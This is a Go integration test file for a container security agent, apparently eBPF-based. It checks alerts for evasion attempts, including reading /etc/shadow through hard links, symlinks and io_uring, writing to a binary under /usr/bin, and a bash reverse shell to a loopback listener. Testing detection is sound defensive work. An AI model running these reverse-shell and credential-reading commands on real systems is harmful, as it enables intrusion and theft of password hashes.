package cli

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/palisade-sec/palisade/internal/detect"
	"github.com/palisade-sec/palisade/internal/testutil"
)

// victimImage is BashImage plus /usr/bin/victim, a file below a binary
// directory that a test may modify through a hard link.
const victimImage = "palisade-test:victim-1"

func requireVictimImage(t *testing.T) string {
	t.Helper()
	base := testutil.RequireBashImage(t)
	if exec.Command("docker", "image", "inspect", victimImage).Run() == nil {
		return victimImage
	}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "victim"), []byte("#!/bin/sh\necho victim\n"), 0o755)
	os.WriteFile(filepath.Join(dir, "Dockerfile"), []byte("FROM "+base+"\nCOPY victim /usr/bin/victim\n"), 0o644)
	if out, err := exec.Command("docker", "build", "-q", "-t", victimImage, dir).CombinedOutput(); err != nil {
		t.Fatalf("docker build %s: %v\n%s", victimImage, err, out)
	}
	return victimImage
}

// evasionContainer starts a long-lived container of img with the static
// uringopen program at /uo. io_uring needs a seccomp profile that allows
// it (Docker's default refuses it since Docker 25).
func evasionContainer(t *testing.T, img string, extra ...string) string {
	t.Helper()
	uo := testutil.BuildStatic(t, "./internal/kernel/ebpf/testdata/uringopen", filepath.Join(t.TempDir(), "uringopen"))
	name := fmt.Sprintf("palisade-evasion-%d", time.Now().UnixNano())
	args := append([]string{"run", "-d", "--rm", "--name", name, "--security-opt", "seccomp=unconfined", "-v", uo + ":/uo:ro"}, extra...)
	args = append(args, img, "sleep", "600")
	if out, err := exec.Command("docker", args...).CombinedOutput(); err != nil {
		t.Fatalf("docker run: %v\n%s", err, out)
	}
	t.Cleanup(func() { exec.Command("docker", "rm", "-f", name).Run() })
	return name
}

func dockerExec(t *testing.T, name, script string) {
	t.Helper()
	if out, err := exec.Command("docker", "exec", name, "sh", "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("docker exec %s: %v\n%s", script, err, out)
	}
}

// waitAlert waits until an alert of rule whose output fields hold every
// key=value in want is on out, after its first skip alerts.
func waitAlert(t *testing.T, out *testutil.SyncBuffer, skip int, timeout time.Duration, rule string, want map[string]string) bool {
	t.Helper()
	for deadline := time.Now().Add(timeout); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		alerts := parseAlerts(t, out.String())
		if skip > len(alerts) {
			skip = len(alerts)
		}
	next:
		for _, a := range alerts[skip:] {
			if a.Rule != rule {
				continue
			}
			for k, v := range want {
				if fmt.Sprint(a.OutputFields[k]) != v {
					continue next
				}
			}
			return true
		}
	}
	return false
}

// watchedVictim starts `watch --builtin` (JSON alerts on the returned
// buffer) and a container of the victim image, and gives the agent a
// second to protect the container's files on its first records.
func watchedVictim(t *testing.T) (string, *testutil.SyncBuffer) {
	t.Helper()
	testutil.RequireBPF(t)
	img := requireVictimImage(t)
	bin := testutil.BuildStatic(t, "./cmd/palisade", filepath.Join(t.TempDir(), "palisade"))
	stdout := &testutil.SyncBuffer{}
	testutil.StartWatch(t, bin, stdout, "--builtin", "--store", "none", "--metrics", "none", "-o", "json", "--ring-buffer", "16")
	c := evasionContainer(t, img)
	time.Sleep(time.Second)
	return c, stdout
}

// Reads and writes that step around names (a hard link made under another
// name, an open made through io_uring with no open syscall) are still
// judged by the file they reach.
func TestEvasionHardLinkAndIOUring(t *testing.T) {
	c, stdout := watchedVictim(t)

	dockerExec(t, c, "cd /etc && ln shadow /tmp/h && cat /tmp/h >/dev/null")
	if !waitAlert(t, stdout, 0, 10*time.Second, "Read sensitive file untrusted",
		map[string]string{"fd.name": "/tmp/h", "fd.identity": "/etc/shadow", "fd.nlink": "2"}) {
		t.Errorf("no alert for reading /etc/shadow through a hard link:\n%s", stdout.String())
	}
	dockerExec(t, c, "ln /usr/bin/victim /tmp/v && echo pwned >> /tmp/v")
	if !waitAlert(t, stdout, 0, 10*time.Second, "Write below binary dir",
		map[string]string{"fd.name": "/tmp/v", "fd.identity": "/usr/bin/victim"}) {
		t.Errorf("no alert for writing /usr/bin/victim through a hard link:\n%s", stdout.String())
	}
	dockerExec(t, c, "/uo /etc/shadow")
	if !waitAlert(t, stdout, 0, 10*time.Second, "Read sensitive file untrusted",
		map[string]string{"fd.name": "/etc/shadow", "evt.is_io_uring": "true", "proc.name": "uo"}) {
		t.Errorf("no alert for reading /etc/shadow through io_uring:\n%s", stdout.String())
	}
	if !waitAlert(t, stdout, 0, 10*time.Second, "io_uring setup in container", map[string]string{"proc.name": "uo"}) {
		t.Errorf("no alert for io_uring set up in a container:\n%s", stdout.String())
	}
}

// Files are known by identity past the agent's first scan, and linking
// one is known by the file linked: /etc/shadow replaced by a rename (as
// sed -i and package upgrades do) is still /etc/shadow when read through
// a hard link; a hard link to a protected file made through names no
// rule lists is its own alert; a hard link of an ordinary file is not.
func TestEvasionReplacedFileAndLinkByIdentity(t *testing.T) {
	c, stdout := watchedVictim(t)

	const link = "Create hardlink over sensitive files"
	dockerExec(t, c, "echo x >/tmp/plain && ln /tmp/plain /tmp/plain2")
	dockerExec(t, c, "cp /etc/shadow /tmp/newshadow && mv /tmp/newshadow /etc/shadow && ln /etc/shadow /tmp/h2 && cat /tmp/h2 >/dev/null")
	if !waitAlert(t, stdout, 0, 10*time.Second, "Read sensitive file untrusted",
		map[string]string{"fd.name": "/tmp/h2", "fd.identity": "/etc/shadow", "fd.nlink": "2"}) {
		t.Errorf("no alert for reading the replaced /etc/shadow through a hard link:\n%s", stdout.String())
	}
	dockerExec(t, c, "mkdir -p /tmp/d && ln -s /usr/bin /tmp/d/b && ln /tmp/d/b/victim /tmp/anything")
	if !waitAlert(t, stdout, 0, 10*time.Second, link,
		map[string]string{"evt.arg.newpath": "/tmp/anything", "fd.identity": "/usr/bin/victim"}) {
		t.Errorf("no alert for hard-linking /usr/bin/victim through a symlinked directory:\n%s", stdout.String())
	}
	dockerExec(t, c, "ln /proc/self/root/etc/shadow /tmp/y")
	if !waitAlert(t, stdout, 0, 10*time.Second, link,
		map[string]string{"evt.arg.newpath": "/tmp/y", "fd.identity": "/etc/shadow"}) {
		t.Errorf("no alert for hard-linking the replaced /etc/shadow through /proc/self/root:\n%s", stdout.String())
	}
	// The ordinary link came first: its alert, if any, is out by now.
	for _, a := range parseAlerts(t, stdout.String()) {
		if a.Rule == link && fmt.Sprint(a.OutputFields["evt.arg.newpath"]) == "/tmp/plain2" {
			t.Errorf("alert for a hard link of an ordinary file: %s", a.Output)
		}
	}
}

// flood makes syscalls from threads of this process until stop: getppid
// (not captured: the cost of the filter alone) in two, open+close of a
// harmless file (captured, and shed by the kernel under pressure) in a
// third. It counts the syscalls made in cheap and opens.
// floodContainer starts the co-tenant: a container running the flood
// program (testdata/flood) from the image img. Its stop function ends the
// flood and returns how many getppid calls and captured opens+closes it
// made, and over how long.
func floodContainer(t *testing.T, img, bin string) (stop func() (cheap, opens uint64, d time.Duration)) {
	t.Helper()
	name := fmt.Sprintf("palisade-flood-%d", time.Now().UnixNano())
	if out, err := exec.Command("docker", "run", "-d", "--name", name, "-v", bin+":/flood:ro", img, "/flood", "-cheap", "1", "-opens", "2").CombinedOutput(); err != nil {
		t.Fatalf("docker run flood: %v\n%s", err, out)
	}
	t.Cleanup(func() { exec.Command("docker", "rm", "-f", name).Run() })
	return func() (uint64, uint64, time.Duration) {
		t.Helper()
		if out, err := exec.Command("docker", "kill", "-s", "TERM", name).CombinedOutput(); err != nil {
			t.Fatalf("docker kill flood: %v\n%s", err, out)
		}
		if out, err := exec.Command("docker", "wait", name).CombinedOutput(); err != nil {
			t.Fatalf("docker wait flood: %v\n%s", err, out)
		}
		out, err := exec.Command("docker", "logs", name).CombinedOutput()
		if err != nil {
			t.Fatalf("docker logs flood: %v\n%s", err, out)
		}
		var cheap, opens uint64
		var secs float64
		if _, err := fmt.Sscanf(strings.TrimSpace(string(out)), "cheap=%d opens=%d seconds=%g", &cheap, &opens, &secs); err != nil {
			t.Fatalf("flood's report %q: %v", out, err)
		}
		exec.Command("docker", "rm", "-f", name).Run()
		return cheap, opens, time.Duration(secs * float64(time.Second))
	}
}

// A co-tenant flood of syscalls from another container must not hide a
// reverse shell or a read of /etc/shadow in a third container: the kernel sheds the flood's records
// (read-only opens of an unprotected file, closes) before they crowd out
// the ones rules need, and a drop alert says it did. PALISADE_SOAK=1 runs
// it 10 times (BENCHMARKS.md), else 2.
func TestFloodKeepsDetections(t *testing.T) {
	testutil.RequireBPF(t)
	img := testutil.RequireBashImage(t)
	runs := 2
	if os.Getenv("PALISADE_SOAK") == "1" {
		runs = 10
	}
	// The shell that connected back gets one command: exit.
	ln := testutil.Serve(t, "tcp", "127.0.0.1:0", func(c net.Conn) {
		c.SetDeadline(time.Now().Add(5 * time.Second))
		fmt.Fprintln(c, "exit")
		bufio.NewReader(c).ReadString(0)
		c.Close()
	})
	port := ln.Addr().(*net.TCPAddr).Port
	bin := testutil.BuildStatic(t, "./cmd/palisade", filepath.Join(t.TempDir(), "palisade"))
	var stdout testutil.SyncBuffer
	// A 1 MiB ring (--ring-buffer 1): the flood fills it within
	// milliseconds whenever the agent is not scheduled.
	cmd, stderr := testutil.StartWatch(t, bin, &stdout, "--builtin", "--store", "none", "--metrics", "none", "-o", "json", "--ring-buffer", "1")
	c := evasionContainer(t, img, "--network", "host")
	time.Sleep(time.Second)

	floodBin := testutil.BuildStatic(t, "./internal/cli/testdata/flood", filepath.Join(t.TempDir(), "flood"))
	detected := 0
	var total uint64
	var floodTime time.Duration
	for run := range runs {
		stopFlood := floodContainer(t, img, floodBin)
		time.Sleep(500 * time.Millisecond)
		before := len(parseAlerts(t, stdout.String()))
		dockerExec(t, c, fmt.Sprintf("bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1' </dev/null; cat /etc/shadow >/dev/null", port))
		shell := waitAlert(t, &stdout, before, 10*time.Second, "Reverse shell", map[string]string{"container.name": c, "proc.name": "bash"})
		shadow := waitAlert(t, &stdout, before, 10*time.Second, "Read sensitive file untrusted", map[string]string{"container.name": c, "fd.name": "/etc/shadow"})
		cheap, opens, d := stopFlood()
		floodTime += d
		total += cheap + opens
		t.Logf("run %d: flood of %.2fM syscalls/s from another container (%.2fM/s getppid, %.2fM/s captured openat+close), reverse shell seen %v, shadow read seen %v",
			run+1, float64(cheap+opens)/d.Seconds()/1e6, float64(cheap)/d.Seconds()/1e6, float64(opens)/d.Seconds()/1e6, shell, shadow)
		if shell && shadow {
			detected++
		}
	}
	cmd.Process.Signal(syscall.SIGINT)
	if err := cmd.Wait(); err != nil {
		t.Fatalf("watch: %v\n%s", err, stderr.String())
	}
	lines := strings.Split(strings.TrimSpace(stderr.String()), "\n")
	var st detect.Stats
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &st); err != nil {
		t.Fatalf("summary %q: %v", lines[len(lines)-1], err)
	}
	t.Logf("detected in %d/%d runs; flood %.2fM syscalls/s on average; agent: %d events, %d shed, %d lost",
		detected, runs, float64(total)/floodTime.Seconds()/1e6, st.Events, st.Shed, st.Drops)
	if detected != runs {
		t.Errorf("reverse shell and shadow read detected in %d of %d flooded runs", detected, runs)
	}
	if st.Shed+st.Drops == 0 {
		t.Errorf("the flood never pressed the ring (nothing shed or lost): the test proves nothing")
	} else if !waitAlert(t, &stdout, 0, time.Second, detect.DropAlertRule, nil) {
		t.Errorf("%d records shed and %d lost, but no drop alert", st.Shed, st.Drops)
	}
}

// io_uring requests beyond a plain open are judged like the syscalls they
// stand for, in real containers:
//
//   - an open of /etc/shadow into a direct descriptor (a slot of the ring's
//     fixed-file table: in no fd table, the completion's result is 0) and a
//     read through that slot: the open is described from the ring's table,
//     the read is recorded because /etc/shadow's inode is protected;
//   - the same open asking for no completion on success
//     (IOSQE_CQE_SKIP_SUCCESS), linked to the read, with a relative path:
//     recorded at its submission;
//   - a connect through io_uring to a listener this test made on loopback
//     (the allowed networks are overridden so that loopback is unexpected);
//   - a write to /usr/bin/victim through a descriptor its process opened
//     before the agent started. That is the honest case for a read or write
//     of a protected file: an open the agent sees (O_RDWR through a syscall
//     or io_uring, a fixed slot included) is judged by the open rules
//     already; a descriptor opened before the agent ran, inherited from such
//     a process or received over a socket has no open event any rule could
//     flag, and only the write itself is left to see.
func TestEvasionIOUringBeyondOpens(t *testing.T) {
	testutil.RequireBPF(t)
	img := requireVictimImage(t)
	uo := testutil.BuildStatic(t, "./internal/kernel/ebpf/testdata/uringopen", filepath.Join(t.TempDir(), "uringopen"))
	bin := testutil.BuildStatic(t, "./cmd/palisade", filepath.Join(t.TempDir(), "palisade"))
	ln := testutil.Serve(t, "tcp4", "127.0.0.1:0", testutil.HangUp)
	override := filepath.Join(t.TempDir(), "override.yaml")
	os.WriteFile(override, []byte("- list: allowed_outbound_destination_networks\n  items: [192.0.2.0/24]\n  override:\n    items: replace\n"), 0o644)

	// The holder opens /usr/bin/victim for appending before the agent
	// starts, then waits for /tmp/go and writes through io_uring.
	holder := fmt.Sprintf("palisade-evasion-holder-%d", time.Now().UnixNano())
	script := "exec 3>>/usr/bin/victim; while [ ! -e /tmp/go ]; do sleep 0.2; done; /uo -write 3; exec sleep 600"
	if out, err := exec.Command("docker", "run", "-d", "--rm", "--name", holder, "--security-opt", "seccomp=unconfined",
		"-v", uo+":/uo:ro", img, "sh", "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("docker run: %v\n%s", err, out)
	}
	t.Cleanup(func() { exec.Command("docker", "rm", "-f", holder).Run() })

	var stdout testutil.SyncBuffer
	testutil.StartWatch(t, bin, &stdout, "--builtin", "-r", override, "--store", "none", "--metrics", "none", "-o", "json", "--ring-buffer", "16")
	c := evasionContainer(t, img, "--network", "host")
	time.Sleep(1500 * time.Millisecond) // the agent protects each container's files on its first records

	dockerExec(t, c, "/uo -fixed /etc/shadow")
	for _, typ := range []string{"openat", "read"} {
		if !waitAlert(t, &stdout, 0, 10*time.Second, "Read sensitive file untrusted",
			map[string]string{"fd.name": "/etc/shadow", "evt.type": typ, "evt.is_io_uring": "true", "proc.name": "uo", "container.name": c}) {
			t.Errorf("no %s alert for /etc/shadow through an io_uring direct descriptor:\n%s", typ, stdout.String())
		}
	}
	// The same with the open asking for no completion on success, linked
	// to the read: only the read's completion is posted.
	dockerExec(t, c, "cd /etc && /uo -fixed-skip shadow")
	if !waitAlert(t, &stdout, 0, 10*time.Second, "Read sensitive file untrusted",
		map[string]string{"fd.name": "/etc/shadow", "evt.type": "openat", "evt.is_io_uring": "true", "proc.cmdline": "uo -fixed-skip shadow"}) {
		t.Errorf("no alert for an io_uring open of /etc/shadow that posts no completion:\n%s", stdout.String())
	}
	// The same read with no completion either, the file named another way:
	// the open recorded at submission is looked up in the process (its
	// root, cwd, /proc/self), which waits (UO_HOLD) so that it is there when
	// the agent reads the record (docs/kernel.md, io_uring).
	dockerExec(t, c, "ln -sf /etc/shadow /tmp/sh")
	for _, cmd := range []string{"/uo -fixed-skip-all /proc/self/root/etc/shadow", "/uo -fixed-skip-all /tmp/sh",
		"cd /usr && /uo -fixed-skip-all ../tmp/../etc/shadow"} {
		dockerExec(t, c, "export UO_HOLD=3s; "+cmd)
		line := cmd[strings.Index(cmd, "/uo ")+1:]
		if !waitAlert(t, &stdout, 0, 10*time.Second, "Read sensitive file untrusted",
			map[string]string{"fd.identity": "/etc/shadow", "fd.name": "/etc/shadow", "evt.type": "openat", "evt.is_io_uring": "true", "proc.cmdline": line}) {
			t.Errorf("no alert naming /etc/shadow by identity for %q, an io_uring open and read that post no completion:\n%s", cmd, stdout.String())
		}
		// The open is the only record: the read posted no completion.
		if waitAlert(t, &stdout, 0, 500*time.Millisecond, "Read sensitive file untrusted", map[string]string{"evt.type": "read", "proc.cmdline": line}) {
			t.Errorf("a read record for %q, whose read asked for no completion: the test no longer shows an open recorded at submission alone", cmd)
		}
	}
	dockerExec(t, c, "/uo -connect "+ln.Addr().String())
	if !waitAlert(t, &stdout, 0, 10*time.Second, "Unexpected outbound connection destination",
		map[string]string{"fd.sip": "127.0.0.1", "fd.sport": fmt.Sprint(ln.Addr().(*net.TCPAddr).Port), "evt.is_io_uring": "true", "proc.name": "uo"}) {
		t.Errorf("no alert for an io_uring connect to %s:\n%s", ln.Addr(), stdout.String())
	}
	dockerExec(t, holder, "touch /tmp/go")
	if !waitAlert(t, &stdout, 0, 10*time.Second, "Write below binary dir",
		map[string]string{"fd.name": "/usr/bin/victim", "fd.identity": "/usr/bin/victim", "evt.type": "write", "evt.is_io_uring": "true", "proc.name": "uo"}) {
		t.Errorf("no alert for an io_uring write to /usr/bin/victim through a descriptor opened before the agent:\n%s", stdout.String())
	}
}
